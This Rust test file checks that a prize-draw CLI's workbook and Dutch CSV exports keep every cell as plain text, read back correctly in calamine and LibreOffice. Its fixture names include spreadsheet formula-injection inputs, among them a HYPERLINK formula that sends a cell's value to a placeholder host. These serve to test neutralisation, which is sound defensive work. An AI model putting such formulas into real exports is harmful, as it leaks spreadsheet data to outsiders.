//! Issue 28: `results` and `slips` as a workbook (`--format xlsx`) and as
//! the Dutch CSV, read back by real spreadsheet readers: calamine (the
//! reader potdraw itself uses for lists) always, and LibreOffice headless
//! (`soffice --convert-to`) where it is installed. In CI (`POTDRAW_CI`)
//! `.ci/run` installs LibreOffice, and a missing `soffice` fails these tests
//! instead of skipping them.
//!
//! What must hold: the workbook and the CSV say the same cells (the CSV's
//! only difference is the `'` it puts before a cell that a spreadsheet would
//! run as a formula); every cell of the workbook is text, exactly the
//! receipt's value (`Daniël` stays `Daniël`, `0012` keeps its zeros, a date
//! stays as the sheet wrote it, a formula-like name is never run); the
//! header and sheet name are in the user's language; the file is the
//! organiser's only (0600) and is not overwritten without `--force`.

mod common;

use calamine::{Data, Reader, Xlsx};
use common::*;
use potdraw_cli::spreadsheet_safe::neutralise;
use std::path::{Path, PathBuf};
use std::process::Command;

/// Names that test the reading: a letter outside ASCII, formulas, a number with zeros.
const NAMES: [(&str, &str); 5] = [
    ("A01", "Daniël Bos"),
    ("A02", "=HYPERLINK(\"https://x.invalid/?\"&C2,\"klik\")"),
    ("A03", "+31 6 12345678"),
    ("B05", "@SUM(A1:A9)"),
    ("B06", "Ilse Kramer"),
];

/// A pot whose list has the names above, a member number with leading
/// zeros and a Dutch date as text, committed and drawn.
fn pot() -> Pot {
    let mut list = String::from("id,weight,Naam,Lidnummer,Lid sinds\n");
    for (n, (id, weight, name)) in CANDIDATES.iter().enumerate() {
        let name = NAMES.iter().find(|(i, _)| i == id).map_or(*name, |(_, v)| v);
        list.push_str(&format!("{id},{weight},\"{}\",00{n:02},13-03-2024\n", name.replace('"', "\"\"")));
    }
    let p = Pot::with_csv(list.as_bytes());
    succeeds(&mut p.commit_cmd());
    succeeds(&mut p.draw_cmd());
    p
}

fn code(o: &std::process::Output) -> i32 {
    o.status.code().unwrap_or(-1)
}

/// `results` (or `slips`) in `lang` and `format` to `out`.
fn write(p: &Pot, lang: &str, what: &str, format: &str, out: &Path, extra: &[&str]) -> std::process::Output {
    let mut c = p.cmd();
    c.args(["--lang", lang]);
    if what == "results" {
        c.arg("results").arg(&p.transcript).arg("--receipts").arg(p.receipts());
    } else {
        c.args(["slips", "--commitment"]).arg(p.commitment()).arg("--receipts").arg(p.receipts());
        c.args(["--draw-date", "zaterdag 12 december 2026, 20.45 uur"]);
    }
    c.args(["--format", format, "--out"]).arg(out).args(extra);
    c.output().unwrap()
}

/// The first sheet's name and cells, each as the string it holds; a cell
/// that is not a string is a failure (the workbook is text only).
fn workbook_cells(path: &Path) -> (String, Vec<Vec<String>>) {
    let mut book: Xlsx<_> = calamine::open_workbook(path).unwrap();
    let name = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&name).unwrap();
    let rows = range
        .rows()
        .map(|r| {
            r.iter()
                .map(|c| match c {
                    Data::String(s) => s.clone(),
                    Data::Empty => String::new(),
                    other => panic!("{}: a cell that is not text: {other:?}", path.display()),
                })
                .collect()
        })
        .collect();
    (name, rows)
}

/// A CSV's cells: `;` after a byte order mark (the Dutch convention), `,` without.
fn csv_cells(path: &Path) -> Vec<Vec<String>> {
    let bytes = std::fs::read(path).unwrap();
    let (delimiter, body) = match bytes.strip_prefix(b"\xef\xbb\xbf") {
        Some(body) => (b';', body.to_vec()),
        None => (b',', bytes),
    };
    let mut r = csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).from_reader(&body[..]);
    r.records().map(|row| row.unwrap().iter().map(str::to_string).collect()).collect()
}

/// The workbook of `what`, and the same in the Dutch CSV: the same cells.
fn workbook_and_csv_agree(p: &Pot, what: &str, sheet: &str, header: &[&str]) -> Vec<Vec<String>> {
    let (xlsx, csv) = (p.path(&format!("{what}.xlsx")), p.path(&format!("{what}.csv")));
    assert_eq!(code(&write(p, "nl", what, "xlsx", &xlsx, &[])), 0);
    assert_eq!(code(&write(p, "nl", what, "csv", &csv, &[])), 0);
    assert_eq!((mode(&xlsx), mode(&csv)), (0o600, 0o600));
    let (name, cells) = workbook_cells(&xlsx);
    assert_eq!(name, sheet);
    assert_eq!(cells[0][..header.len()], *header, "{what}: the header in Dutch");
    let from_csv = csv_cells(&csv);
    assert_eq!(cells.len(), from_csv.len(), "{what}: rows");
    for (w, c) in cells.iter().zip(&from_csv) {
        let w: Vec<String> = w.iter().map(|cell| neutralise(cell).into_owned()).collect();
        assert_eq!(&w, c, "{what}: a row of the workbook and the CSV");
    }
    // Every name as the list wrote it, in the workbook; the member number and date as text.
    let at = |h: &str| cells[0].iter().position(|c| c == h).unwrap();
    // `slips` puts the name in its own column `naam`; `results` keeps the sheet's `Naam`.
    let naam = cells[0].iter().position(|c| c == "Naam").unwrap_or_else(|| at("naam"));
    let (id, nummer, sinds) = (at("id"), at("Lidnummer"), at("Lid sinds"));
    for row in &cells[1..] {
        let (n, (_, _, name)) = CANDIDATES.iter().enumerate().find(|(_, (i, _, _))| *i == row[id]).unwrap();
        let name = NAMES.iter().find(|(i, _)| *i == row[id]).map_or(*name, |(_, v)| v);
        assert_eq!((&row[naam][..], &row[nummer][..], &row[sinds][..]), (name, &*format!("00{n:02}"), "13-03-2024"));
    }
    cells
}

#[test]
fn results_as_a_workbook_and_as_the_dutch_csv_say_the_same_cells() {
    let p = pot();
    let cells = workbook_and_csv_agree(&p, "results", "Uitslag", &["rol", "nummer", "id", "Naam"]);
    assert_eq!(cells.len(), 1 + K + R);
    assert!(cells[1..=K].iter().all(|r| r[0] == "ontvanger") && cells[K + 1..].iter().all(|r| r[0] == "reserve"));
    let slips = workbook_and_csv_agree(&p, "slips", "Bewijsjes", &["id", "naam", "controlecode"]);
    assert_eq!(slips.len(), 1 + CANDIDATES.len());
    // Every name of the list is on the slips, `Daniël` and the formulas among them.
    for (_, name) in NAMES {
        assert!(slips.iter().any(|r| r[1] == name), "{name:?} on the slips");
    }
    // In English: the English words, and a sheet named in English.
    let en = p.path("results-en.xlsx");
    assert_eq!(code(&write(&p, "en", "results", "xlsx", &en, &[])), 0);
    let (name, cells) = workbook_cells(&en);
    assert_eq!(
        (name.as_str(), &cells[0][..3], &cells[1][0][..]),
        ("Results", &["role", "rank", "id"].map(String::from)[..], "recipient")
    );
}

/// Written like the CSV: never over a file without `--force`, and with it
/// replaced whole (0600 again).
#[test]
fn a_workbook_is_not_overwritten_without_force() {
    let p = pot();
    let out = p.path("uitslag.xlsx");
    std::fs::write(&out, b"keep me").unwrap();
    let o = write(&p, "nl", "results", "xlsx", &out, &[]);
    assert_eq!(code(&o), 2, "{}", stderr(&o));
    assert!(stderr(&o).contains("[foutcode: file-exists]"), "{}", stderr(&o));
    assert_eq!(std::fs::read(&out).unwrap(), b"keep me");
    assert_eq!(code(&write(&p, "nl", "results", "xlsx", &out, &["--force"])), 0);
    assert_eq!(mode(&out), 0o600);
    assert_eq!(workbook_cells(&out).0, "Uitslag");
    assert!(leftover_temporaries(p.dir.path()).is_empty());
}

/// LibreOffice, if installed (in CI it must be).
fn soffice() -> Option<PathBuf> {
    let path = PathBuf::from("/usr/bin/soffice");
    if path.exists() {
        return Some(path);
    }
    assert!(
        std::env::var_os("POTDRAW_CI").is_none(),
        "LibreOffice (/usr/bin/soffice) is missing, and CI must run this test: .ci/run installs libreoffice-calc-nogui"
    );
    eprintln!("skipped: LibreOffice is not installed (apt-get install libreoffice-calc-nogui)");
    None
}

/// `file` converted by LibreOffice headless to `to` (a filter as
/// `--convert-to` takes it), read with `--infilter` when given; the path of
/// the result.
fn convert(soffice: &Path, file: &Path, infilter: Option<&str>, to: &str, ext: &str) -> PathBuf {
    let dir = file.parent().unwrap().join(format!("lo-{ext}"));
    std::fs::create_dir_all(&dir).unwrap();
    let profile = file.parent().unwrap().join("lo-profile");
    let mut c = Command::new(soffice);
    c.arg("--headless").arg(format!("-env:UserInstallation=file://{}", profile.display()));
    if let Some(f) = infilter {
        c.arg(format!("--infilter={f}"));
    }
    let o = c.args(["--convert-to", to, "--outdir"]).arg(&dir).arg(file).output().unwrap();
    let out = dir.join(file.with_extension(ext).file_name().unwrap());
    assert!(out.exists(), "soffice made no {}: {}{}", out.display(), stdout(&o), stderr(&o));
    out
}

/// LibreOffice opens the workbook as potdraw wrote it: its own CSV of the
/// sheet (UTF-8, `;`) is the workbook's cells, so no cell was read as a
/// formula (it would show its result), a number (`0012` would lose its
/// zeros) or a date. And it opens the Dutch CSV by its byte order mark as
/// UTF-8, so `Daniël` stays `Daniël`.
#[test]
fn libreoffice_reads_the_workbook_and_the_dutch_csv_as_written() {
    let Some(soffice) = soffice() else { return };
    let p = pot();
    for (what, naam) in [("results", "Naam"), ("slips", "naam")] {
        let (xlsx, csv) = (p.path(&format!("{what}.xlsx")), p.path(&format!("{what}.csv")));
        assert_eq!(code(&write(&p, "nl", what, "xlsx", &xlsx, &[])), 0);
        assert_eq!(code(&write(&p, "nl", what, "csv", &csv, &[])), 0);
        let (_, cells) = workbook_cells(&xlsx);
        // 59 is `;`, 34 `"`, 76 UTF-8, from line 1; formulas as their text, not their result.
        let filter = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false,false,false";
        let back = convert(&soffice, &xlsx, None, filter, "csv");
        let mut lo = std::fs::read(&back).unwrap();
        // csv_cells reads `;` after a byte order mark.
        if !lo.starts_with(b"\xef\xbb\xbf") {
            lo.splice(0..0, *b"\xef\xbb\xbf");
        }
        std::fs::write(&back, lo).unwrap();
        assert_eq!(csv_cells(&back), cells, "{what}: LibreOffice's reading of the workbook");
        // The Dutch CSV with no character set named: LibreOffice goes by the BOM.
        let opened = convert(&soffice, &csv, Some("CSV:59,34,,1"), "xlsx", "xlsx");
        let (_, from_csv) = workbook_cells_any(&opened);
        assert_eq!(from_csv[0], cells[0], "{what}: the Dutch header, as LibreOffice reads the CSV");
        let at = cells[0].iter().position(|c| c == naam).unwrap();
        for (r, row) in cells.iter().enumerate() {
            assert_eq!(from_csv[r][at], neutralise(&row[at]), "{what}, row {r}: the name as LibreOffice reads the CSV");
        }
        if what == "slips" {
            assert!(from_csv.iter().any(|r| r[at] == "Daniël Bos"), "{what}: Daniël as LibreOffice reads the CSV");
        }
    }
}

/// Cells of a workbook another program wrote: numbers shown as text.
fn workbook_cells_any(path: &Path) -> (String, Vec<Vec<String>>) {
    let mut book: Xlsx<_> = calamine::open_workbook(path).unwrap();
    let name = book.sheet_names()[0].clone();
    let range = book.worksheet_range(&name).unwrap();
    (name, range.rows().map(|r| r.iter().map(|c| c.to_string()).collect()).collect())
}
